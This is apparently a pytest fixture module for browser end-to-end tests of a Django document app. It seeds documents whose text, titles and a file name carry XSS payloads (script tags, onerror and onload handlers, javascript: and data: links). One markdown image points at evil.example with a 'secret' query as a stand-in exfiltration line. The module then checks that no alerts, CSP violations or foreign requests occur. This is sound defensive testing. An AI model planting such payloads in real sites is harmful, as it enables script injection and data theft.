"""A real Citadel for the browser: its own data dir (embedded PostgreSQL), `runserver` and a
`worker` as subprocesses, demo users, and Debian's Chromium driven by Playwright.

Every page a test opens is watched: CSP violations (console and securitypolicyviolation events),
JavaScript errors, dialogs and requests to any other host fail the test when it ends."""

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
from pathlib import Path

import pytest

from tests.required import missing

ROOT = Path(__file__).resolve().parents[2]
SCREENSHOTS = ROOT / "artifacts" / "screenshots"
CHROMIUM = os.environ.get("CITADEL_CHROMIUM", "/usr/bin/chromium")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]

REFUNDS = "Refunds are paid within 14 days of the returned item arriving at our warehouse."
HOSTILE = [
    "<script>alert('xss-script')</script>",
    "<img src=x onerror=alert('xss-img')>",
    "[click me](javascript:alert('xss-link'))",
    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
    "<svg onload=alert('xss-svg')>",
    "![pixel](https://evil.example/?q=secret)",
    '"><script>alert("xss-attr")</script>',
]
XSS_TEXT = "Parcels ship within two working days. " + " ".join(HOSTILE)


class Site:
    def __init__(self, url: str, data_dir: Path, env: dict):
        self.url = url
        self.data_dir = data_dir
        self.env = env

    def manage(self, *args: str, check: bool = True) -> subprocess.CompletedProcess:
        result = subprocess.run(
            [sys.executable, "manage.py", *args], cwd=ROOT, env=self.env, capture_output=True, text=True, timeout=300
        )
        if check and result.returncode != 0:
            raise RuntimeError(f"manage.py {' '.join(args)} failed:\n{result.stdout}\n{result.stderr}")
        return result


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _wait_until_up(url: str, server: subprocess.Popen, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if server.poll() is not None:
            raise RuntimeError(f"runserver exited with {server.returncode}")
        try:
            with urllib.request.urlopen(url + "/healthz", timeout=2) as response:  # noqa: S310 - our own server
                if response.status == 200:
                    return
        except OSError:
            time.sleep(0.3)
    raise RuntimeError("runserver did not come up")


def _seed(site: Site, files: Path) -> None:
    demo = ROOT / "demo" / "corpus"
    (files / "refunds.md").write_text(f"# Refunds\n\n{REFUNDS}\n")
    # globex: documents whose text, title and file name are attacks.
    (files / "shipping.html").write_text(
        f"<html><head><title>Shipping {HOSTILE[0]}</title></head><body><h1>Shipping</h1><p>{XSS_TEXT}</p></body></html>"
    )
    (files / "returns.md").write_text(f"# Returns {HOSTILE[1]}\n\n{XSS_TEXT}\n")
    hostile_name = files / 'x"><img src=x onerror=alert(1)>.txt'
    hostile_name.write_text(f"Parcels ship within two working days. {HOSTILE[2]}\n")
    commands = [
        ("migrate", "--noinput", "-v", "0"),
        ("seed_demo", "--no-documents"),
        ("org_create", "beta", "--name", "Beta"),
        ("user_create", "rita", "--org", "beta", "--role", "reviewer", "--password", "rita-pass-123"),
        ("user_create", "max", "--org", "beta", "--role", "member", "--password", "max-pass-123"),
        # beta: every answer waits for review, so the reviewer has something to approve.
        "Organization.objects.filter(slug='beta').update(review_policy='all')",
        "Organization.objects.filter(slug__in=['acme', 'globex']).update(review_policy='none')",
        # acme: the travel policy, and the Support team's travel budget only Support may read.
        ("ingest", str(demo / "travel-expenses-policy.pdf"), "--org", "acme", "--as", "acme-admin", "--sync"),
        ("ingest", str(demo / "support-travel-budget.md"), "--org", "acme", "--as", "acme-admin", "--team", "Support", "--sync"),
        ("ingest", str(files / "refunds.md"), "--org", "beta", "--as", "max", "--sync"),
        *(
            ("ingest", str(files / name), "--org", "globex", "--as", "globex-admin", "--sync")
            for name in ("shipping.html", "returns.md", hostile_name.name)
        ),
        ("ask", "How many days until refunds are paid?", "--as", "max", "--json"),
    ]  # fmt: skip
    # One `manage.py shell` runs every command with call_command: a process for each would spend
    # about 3 s apiece starting Django. The last line printed is the ask's JSON.
    script = "\n".join(
        [
            "from django.core.management import call_command",
            "from citadel.accounts.models import Organization",
            *(step if isinstance(step, str) else f"call_command(*{step!r})" for step in commands),
        ]
    )
    asked = json.loads(site.manage("shell", "-c", script).stdout.strip().splitlines()[-1])
    assert asked["status"] == "pending_review", asked


@pytest.fixture(scope="session")
def site():
    if not Path(CHROMIUM).exists():
        missing(f"{CHROMIUM} is not installed (apt-get install chromium)")
    # Not under pytest's tmp dir: the embedded PostgreSQL runs as another user and must reach it.
    data_dir = Path(tempfile.mkdtemp(prefix="citadel-e2e-"))
    data_dir.chmod(0o755)
    port = _free_port()
    env = {k: v for k, v in os.environ.items() if k not in {"DATABASE_URL", "DJANGO_SETTINGS_MODULE", "SECRET_KEY"}}
    env.update(
        DJANGO_SETTINGS_MODULE="config.settings",
        CITADEL_DATA_DIR=str(data_dir),
        CITADEL_EMBEDDER="fake",
        CITADEL_PROFILE="local",
        DEBUG="1",
        LOG_FORMAT="text",
        LOG_LEVEL="WARNING",
        HF_HUB_OFFLINE="1",
        TRANSFORMERS_OFFLINE="1",
    )
    site = Site(f"http://127.0.0.1:{port}", data_dir, env)
    processes: list[subprocess.Popen] = []
    logs = data_dir / "logs"
    logs.mkdir()
    try:
        files = data_dir / "files-in"
        files.mkdir()
        _seed(site, files)
        for name, args in (
            ("runserver", ["runserver", f"127.0.0.1:{port}", "--noreload"]),
            ("worker", ["worker", "--interval", "0.2"]),
        ):
            with open(logs / f"{name}.log", "w") as log:
                processes.append(
                    subprocess.Popen(
                        [sys.executable, "manage.py", *args], cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT
                    )
                )
        _wait_until_up(site.url, processes[0])
        yield site
    finally:
        for process in processes:
            process.terminate()
        for process in processes:
            try:
                # Not long: the worker finishes its task first, and a background summary of the
                # seeded documents can run on for 15 s and more, while the data dir goes anyway.
                process.wait(timeout=3)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait(timeout=15)
        subprocess.run(
            [
                sys.executable,
                "-c",
                "import sys; from config.database import stop_embedded; stop_embedded(__import__('pathlib').Path(sys.argv[1]))",
                str(data_dir),
            ],
            cwd=ROOT,
            timeout=60,
            check=False,
        )
        shutil.rmtree(data_dir, ignore_errors=True)


@pytest.fixture(scope="session")
def browser(site):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


CSP_LISTENER = """
document.addEventListener("securitypolicyviolation", (e) => {
  window.citadelCspViolation({directive: e.violatedDirective, blocked: e.blockedURI, sample: e.sample || ""});
});
"""


class Watch:
    """What the browser saw go wrong on the pages of one test."""

    def __init__(self, origin: str):
        self.origin = origin
        self.csp: list = []
        self.server_errors: list[str] = []
        self.errors: list[str] = []
        self.dialogs: list[str] = []
        self.foreign_requests: list[str] = []

    def on_request(self, request) -> None:
        url = request.url
        if not (url.startswith(self.origin + "/") or url.startswith(("data:", "about:", "blob:"))):
            self.foreign_requests.append(url)

    def on_console(self, message) -> None:
        text = message.text
        if "Content Security Policy" in text or "Content-Security-Policy" in text:
            self.csp.append(text)

    def on_response(self, response) -> None:
        if response.status >= 500:
            self.server_errors.append(f"{response.status} {response.url}")

    def on_dialog(self, dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def assert_clean(self) -> None:
        assert self.csp == [], f"CSP violations: {self.csp}"
        assert self.errors == [], f"JavaScript errors: {self.errors}"
        assert self.dialogs == [], f"dialogs opened: {self.dialogs}"
        assert self.foreign_requests == [], f"requests to other hosts: {self.foreign_requests}"
        assert self.server_errors == [], f"server errors: {self.server_errors}"


@pytest.fixture
def watch(site):
    return Watch(site.url)


def watched_page(browser, site, watch: Watch, viewport: dict):
    """A page in a context of its own, at `viewport`, reporting what goes wrong to `watch`."""
    context = browser.new_context(base_url=site.url, viewport=viewport)
    context.expose_binding("citadelCspViolation", lambda source, violation: watch.csp.append(violation))
    context.add_init_script(CSP_LISTENER)
    page = context.new_page()
    page.set_default_timeout(15_000)
    page.on("request", watch.on_request)
    page.on("console", watch.on_console)
    page.on("response", watch.on_response)
    page.on("pageerror", lambda error: watch.errors.append(str(error)))
    page.on("dialog", watch.on_dialog)
    return page


@pytest.fixture
def page(browser, site, watch):
    page = watched_page(browser, site, watch, {"width": 1280, "height": 900})
    yield page
    page.context.close()
    watch.assert_clean()


@pytest.fixture
def shot():
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)

    def _shot(page, name: str) -> None:
        page.screenshot(path=str(SCREENSHOTS / f"{name}.png"), full_page=True)

    return _shot


def log_in(page, username: str, password: str) -> None:
    page.goto("/login/")
    page.fill("#id_username", username)
    page.fill("#id_password", password)
    page.click("button[type=submit]")
    page.wait_for_url(lambda url: "/login/" not in url)
